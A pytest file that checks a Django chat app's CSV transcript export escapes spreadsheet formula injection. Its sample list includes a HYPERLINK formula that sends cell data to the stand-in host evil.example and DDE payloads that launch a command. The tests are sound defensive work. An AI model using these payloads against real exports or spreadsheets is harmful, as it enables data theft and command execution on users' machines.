"""``export_transcripts --format csv`` never writes a cell a spreadsheet would run."""

import csv
import io

import pytest

from django.core.management import call_command

from chat.management.commands.export_transcripts import csv_safe

pytestmark = pytest.mark.django_db(transaction=True)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1 in the middle\tof a tab",
]


def test_appended_formulas_are_exported_as_text(api, tmp_path):
    response = api.post("/chat/history", {"messages": [
        {"role": "user" if i % 2 == 0 else "assistant", "content": text}
        for i, text in enumerate(FORMULAS)
    ]}, format="json")
    assert response.status_code == 201
    target = tmp_path / "export.csv"
    call_command("export_transcripts", "--since", "2000-01-01", "--format", "csv",
                 "--output", str(target), stdout=io.StringIO(), stderr=io.StringIO())
    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
    assert [row["text"] for row in rows] == ["'" + text for text in FORMULAS]


def test_jsonl_export_keeps_the_text_as_written(api):
    api.post("/chat/history", {"messages": [{"role": "user", "content": FORMULAS[0]}]}, format="json")
    out = io.StringIO()
    call_command("export_transcripts", "--since", "2000-01-01", stdout=out, stderr=io.StringIO())
    assert '"text": "=HYPERLINK(' in out.getvalue()


@pytest.mark.parametrize("value", ["\t=1+1", "\r=1+1", "=1", "+1", "-1", "@A1"])
def test_cells_starting_with_a_formula_character_get_a_quote(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["How do I install?", "1 = 1", "", None, 3, "[]"])
def test_other_cells_are_unchanged(value):
    assert csv_safe(value) == value
